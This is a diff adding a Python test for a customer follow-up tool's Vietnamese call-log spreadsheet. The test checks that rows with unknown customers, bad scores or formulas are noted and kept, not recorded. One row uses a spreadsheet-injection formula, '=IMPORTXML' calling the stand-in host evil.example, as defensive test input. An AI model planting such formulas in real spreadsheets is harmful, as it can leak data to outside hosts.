@@ -100,3 +100,47 @@ def test_calls_are_listed_recorded_once_and_freed(tmp_path):
     assert again[0]["calls"]["recorded"] == [] and len([c for c in store.cases() if c.customer_id == "KH-1"]) == 1
     assert careloop("run", "followup", "--now", later, cwd=tmp_path, env=env).returncode == 0
     assert "KH-1" not in calls(tmp_path)  # recorded: its row is free again
+
+
+def add_call_rows(path: Path, rows: list[dict[str, object]]) -> None:
+    book = openpyxl.load_workbook(path)
+    sheet = book["Gọi điện"]
+    header = [c.value for c in sheet[1]]
+    for cells in rows:
+        line = [None] * len(header)
+        for title, value in cells.items():
+            line[header.index(title)] = value
+        sheet.append(line)
+    for cells_row in sheet.iter_rows(min_row=2):  # as staff type them: text, never a formula
+        for cell in cells_row:
+            if isinstance(cell.value, str) and cell.value.startswith("="):
+                cell.data_type = "s"
+    book.save(path)
+
+
+def test_a_call_for_nobody_or_with_a_score_or_outcome_unread_is_noted_and_kept_never_recorded(tmp_path):
+    """Issue 21 (5): an unknown customer opened a case; an unreadable score or outcome was dropped and
+    the row cleared. Now each is a note on its row, the row stays, nothing is recorded or opened."""
+    env = workbook(tmp_path)
+    assert careloop("run", "followup", "--now", NOW, cwd=tmp_path, env=env).returncode == 0
+    called = {"Đã gọi": True, "Leo thang": True, "Ghi chú": "Khách rất bực"}
+    add_call_rows(tmp_path / "k.xlsx", [
+        {"Mã KH": "NOPE", "Họ tên": "Không Có", **called},
+        {"Mã KH": '=IMPORTXML("https://evil.example","//a")', "Họ tên": "Công Thức", **called},
+        {"Mã KH": "KH-3", "Họ tên": "Lê Minh Tuấn", "Điểm nghe được": "²", **called},
+        {"Mã KH": "KH-3", "Họ tên": "Lê Minh Tuấn", "Điểm nghe được": 6, "Đã gọi": True},
+        {"Mã KH": "KH-3", "Họ tên": "Lê Minh Tuấn", "Kết quả": "=1+1", "Đã gọi": True},
+    ])  # fmt: skip
+    tick(tmp_path, "KH-1", **{"Đã gọi": True, "Điểm nghe được": 0})
+    (report,) = escalate_together(tmp_path, env, count=1)
+    assert report["calls"]["recorded"] == [] and report["opened"] == []
+    notes = [r["Ghi chú hệ thống"] for r in read_workbook(tmp_path / "k.xlsx", "Gọi điện") if r["Đã gọi"]]
+    assert len(notes) == 6 and all(n.startswith("Chưa ghi nhận cuộc gọi") for n in notes), notes
+    assert "Mã KH 'NOPE' không có trong tab Khách hàng" in notes[1]
+    assert "Mã KH '=IMPORTXML" in notes[2] and "Điểm nghe được '²'" in notes[3] and "'6'" in notes[4]
+    assert "Kết quả '=1+1' không rõ" in notes[5] and "Điểm nghe được '0'" in notes[0]
+    assert len(report["problems"]) == 6
+    store = SqliteStore(tmp_path / "s.sqlite")
+    assert store.cases() == [] and store.surveys(datetime(2000, 1, 1, tzinfo=UTC)) == []
+    assert careloop("run", "followup", "--now", NOW, cwd=tmp_path, env=env).returncode == 0
+    assert len([r for r in read_workbook(tmp_path / "k.xlsx", "Gọi điện") if r["Đã gọi"]]) == 6  # rows kept
